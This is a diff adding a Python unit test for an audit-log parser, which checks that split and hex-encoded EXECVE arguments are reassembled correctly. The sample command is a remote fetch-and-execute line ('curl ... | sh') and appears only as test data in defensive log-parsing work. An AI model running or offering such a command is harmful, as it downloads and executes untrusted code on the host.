@@ -60,6 +60,35 @@ class Audit(unittest.TestCase):
         self.assertEqual([(event["event.action"], event["event.outcome"], event["time"][:19]) for event in events],
                          [("executed", "success", "2025-11-25T03:12:09"), ("logged-in", "success", "2025-11-25T03:12:09")])
 
+    def test_arguments_in_pieces_and_in_several_records_are_whole(self):
+        """kernel/auditsc.c, audit_log_execve_info(): " a%d_len=%lu" and " a%d[%d]=" where one does not fit; the length is that of the bytes, or of
+        their spelling in hex."""
+        text = "echo grün ; curl http://192.0.2.7/x | sh"
+        spelled = text.encode().hex().upper()
+        cut = spelled.index("C3") + 2  # within the character
+        call_record = record(1, "SYSCALL", 'arch=c000003e syscall=59 success=yes exit=0 pid=2 comm="sh" exe="/bin/sh"')
+        begin = lambda size: record(1, "EXECVE", f'argc=4 a0="sh" a1="-c" a2_len={size} a2[0]={spelled[:cut]}')
+        middle, end = record(1, "EXECVE", f"a2[1]={spelled[cut:60]}"), record(1, "EXECVE", f'a2[2]={spelled[60:]} a3="z"')
+        whole = {"process.args": ["sh", "-c", text, "z"], "process.command_line": f"sh -c {text} z", "event.cut": None}
+        size = len(spelled)
+        for name, records, wanted in (
+                ("in order", (call_record, begin(size), middle, end), whole), ("length of bytes", (call_record, begin(size // 2), middle, end), whole),
+                ("as ausearch has them", (end, middle, begin(size), call_record), whole),
+                ("quoted", (call_record, record(1, "EXECVE", 'argc=2 a0="sh" a1_len=6 a1[0]="abc"'), record(1, "EXECVE", 'a1[1]="def"')),
+                 {"process.args": ["sh", "abcdef"], "process.command_line": "sh abcdef", "event.cut": None}),
+                ("a piece is missing", (call_record, begin(size), end), {"event.cut": f"process.args: {(size - 60 + cut) // 2} of {size} bytes"}),
+                ("the end is missing", (call_record, begin(size), middle, record(1, "EXECVE", f"a2[2]={spelled[60:]}")),
+                 {"process.args": ["sh", "-c", text], "event.cut": "process.args: 3 of 4 arguments"}),
+                ("many", (call_record, record(1, "EXECVE", 'argc=3 a0="a" a1="b"'), record(1, "EXECVE", 'a2="c"')),
+                 {"process.args": ["a", "b", "c"], "process.command_line": "a b c", "event.cut": None}),
+                # No pieces: a text that looks like one, and arguments of a call that is no execve.
+                ("a text", (call_record, record(1, "EXECVE", 'argc=2 a0="sh" a1="a2[0]=78"')), {"process.args": ["sh", "a2[0]=78"], "event.cut": None}),
+                ("a call", (record(1, "SYSCALL", "arch=c000003e syscall=59 success=yes a0=1 a1=2 pid=2"),), {"process.args": None, "auditd.a1": "2"})):
+            with self.subTest(name):
+                events, _ = read_lines("".join(records))
+                self.assertEqual(len(events), 1)
+                self.assertEqual({field: events[0].get(field) for field in wanted}, wanted)
+
     def test_an_address_before_the_call_that_took_it_is_the_source(self):
         events, _ = read_lines(record(9, "SOCKADDR", "saddr=02001F90C00002070000000000000000") +
                                record(9, "SYSCALL", 'arch=c000003e syscall=43 success=yes exit=5 pid=9 comm="x" exe="/x"'))
